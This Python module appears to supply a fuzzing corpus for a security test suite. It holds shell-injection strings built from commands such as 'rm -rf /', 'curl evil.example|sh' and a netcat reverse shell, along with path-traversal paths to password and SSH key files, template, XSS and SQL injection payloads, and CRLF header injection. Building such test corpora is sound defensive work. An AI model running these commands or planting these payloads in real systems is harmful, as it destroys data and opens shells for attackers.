"""Hostile values for the security suite: at least 200, each a distinct string."""

from __future__ import annotations

_COMMANDS = ("touch /tmp/PWNED", "id", "cat /etc/passwd", "rm -rf /", "curl evil.example|sh",
             "sleep 30", "nc -e /bin/sh evil 4444")
_SHELL_FORMS = ("x;{c}", "x && {c}", "x || {c}", "x | {c}", "`{c}`", "$({c})", "x\n{c}",
                "x\r\n{c}", "'; {c}; '", '"; {c}; "', "x & {c} &", "x > /tmp/{c}")

SHELL = tuple(form.format(c=command) for form in _SHELL_FORMS for command in _COMMANDS)

TRAVERSAL = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2f%2e%2e%2fetc",
    "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "..;/..;/etc", "/proc/self/environ",
    "file:///etc/passwd", "~root/.ssh/id_rsa", "\\\\server\\share", "./../../secret",
)

OPTIONS = (
    "--output=/tmp/PWNED", "-rf", "-o/tmp/x", "--help", "-", "--", "-c 'import os'",
    "-e", "@/etc/passwd", "--config=/etc/shadow", "-I.", "+x",
)

TEMPLATES = (
    "#[read.time.min]", "#[read.opts|-x #]", "$(PYTHON)", "${HOME}", "%(user)s", "{0}",
    "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${IFS}id", "$PATH", "%s%s%s%n",
)

CONTROL = (
    "x\x00y", "x\ty", "\x1b[31mred", "x\x7fy", "a\rb", "a\nb", "\u2028line", "\u202egnp.exe",
    "x%0d%0aSet-Cookie:%20a=b", "x\r\nX-Injected: 1", "\ufeffbom", "\x08back",
)

MARKUP = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>",
    "javascript:alert(1)", "<!--", "]]><x>", "&lt;&#x3C;", "<?xml version='1.0'?><!DOCTYPE x>",
    "' OR '1'='1", "1; DROP TABLE users", "\" onmouseover=\"alert(1)", "<iframe src=//evil>",
)

UNICODE = ("été ☃ 𝄞", "Ω≈ç√∫", "日本語", "\U0001f4a9", "ＡＢＣ", "é", "İ", "ß", "\u0301", "ﬁ")

NUMBERS = (
    "nan", "inf", "-inf", "1e309", "-1", "0", "1e-400", "0x10", "1_000", "١٢٣", "99999999999999999999",
    "-0", "+1", "1.5.5", "1e", ".", "NaN", "0" * 400,
)

TIMES = (
    "now", "0000-00-00", "9999-99-99T99:99:99", "1979-13-45", "1979-03-01T12:26:61.5",
    "-1979-03-01", "1979-03-01 ; id", "2020-02-30", "1e10", "1979-03-01T12:26Z+05:00",
    "T", "24:00", "1979-001T00:00:60", "yesterday",
)

LONG = ("a" * 5000, "%" * 4096, "/" * 4096, "é" * 3000, "1" * 10_000)

EMPTY = ("", " ", "\t", "''", '""', "null", "None", "undefined", "[]", "{}")

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(
    SHELL + TRAVERSAL + OPTIONS + TEMPLATES + CONTROL + MARKUP + UNICODE + NUMBERS + TIMES
    + LONG + EMPTY))
